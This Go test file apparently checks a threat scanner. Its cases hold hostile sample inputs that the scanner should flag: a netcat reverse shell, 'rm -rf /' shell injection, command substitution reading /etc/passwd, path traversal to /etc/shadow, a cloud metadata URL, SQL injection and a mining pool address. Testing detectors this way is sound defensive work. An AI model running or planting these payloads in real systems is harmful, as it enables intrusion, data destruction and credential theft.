package monitor

import (
	"testing"
)

func TestScanParams(t *testing.T) {
	s := NewThreatScanner()

	tests := []struct {
		name         string
		params       map[string]any
		wantMinCount int // minimum number of detections
		wantPattern  string
	}{
		{"proc_self_root", map[string]any{"path": "/proc/self/root/etc/passwd"}, 1, "proc_self_access"},
		{"path traversal", map[string]any{"file": "../../etc/shadow"}, 1, "path_traversal"},
		{"shell injection", map[string]any{"name": "x; rm -rf /"}, 1, "shell_injection"},
		{"command substitution", map[string]any{"arg": "$(cat /etc/passwd)"}, 1, "shell_injection"},
		{"metadata service", map[string]any{"url": "http://169.254.169.254/latest/meta-data/"}, 1, "metadata_service"},
		{"reverse shell", map[string]any{"cmd": "nc -e /bin/sh 10.0.0.1 4444"}, 1, "reverse_shell"},
		{"sql injection", map[string]any{"query": "1' OR '1'='1"}, 1, "sql_injection"},
		{"ssrf loopback", map[string]any{"target": "http://127.0.0.1:8080/admin"}, 1, "ssrf_local"},
		{"crypto miner", map[string]any{"pool": "stratum+tcp://pool.mining.com"}, 1, "crypto_miner"},
		{"nested object", map[string]any{"opts": map[string]any{"path": "/proc/self/maps"}}, 1, "proc_self_access"},
		{"array element", map[string]any{"files": []any{"readme.txt", "../../secret"}}, 1, "path_traversal"},
		{"clean params", map[string]any{"text": "hello world", "count": int64(3)}, 0, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := s.ScanParams(tt.params)
			if len(dets) < tt.wantMinCount {
				t.Errorf("got %d detections, want >= %d", len(dets), tt.wantMinCount)
				return
			}
			if tt.wantPattern != "" {
				found := false
				for _, det := range dets {
					if det.Pattern == tt.wantPattern {
						found = true
						break
					}
				}
				if !found {
					t.Errorf("pattern %q not found in detections: %v", tt.wantPattern, dets)
				}
			}
		})
	}
}

func TestScanParamsNamesParameter(t *testing.T) {
	s := NewThreatScanner()

	dets := s.ScanParams(map[string]any{
		"opts": map[string]any{"path": "/proc/self/maps"},
	})
	if len(dets) == 0 {
		t.Fatal("got no detections")
	}
	if dets[0].Parameter != "opts.path" {
		t.Errorf("Parameter = %q, want opts.path", dets[0].Parameter)
	}
}

func TestScanOutput(t *testing.T) {
	s := NewThreatScanner()

	tests := []struct {
		name         string
		output       string
		wantMinCount int
		wantSeverity string
	}{
		{"root access", "root:x:0:0:root:/root:/bin/bash", 1, "critical"},
		{"kernel leak", "Linux version 6.1.0-generic", 1, "high"},
		{"env leak", "PATH=/usr/local/bin:/usr/bin", 1, "medium"},
		{"clean output", "hello world\n42\n", 0, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := s.ScanOutput(tt.output)
			if len(dets) < tt.wantMinCount {
				t.Errorf("got %d detections, want >= %d", len(dets), tt.wantMinCount)
				return
			}
			if tt.wantSeverity != "" && len(dets) > 0 {
				if dets[0].Severity != tt.wantSeverity {
					t.Errorf("severity = %q, want %q", dets[0].Severity, tt.wantSeverity)
				}
			}
		})
	}
}

func TestSeverityString(t *testing.T) {
	tests := []struct {
		sev  Severity
		want string
	}{
		{SeverityLow, "low"},
		{SeverityMedium, "medium"},
		{SeverityHigh, "high"},
		{SeverityCritical, "critical"},
		{Severity(99), "unknown"},
	}

	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			if got := tt.sev.String(); got != tt.want {
				t.Errorf("Severity(%d).String() = %q, want %q", tt.sev, got, tt.want)
			}
		})
	}
}
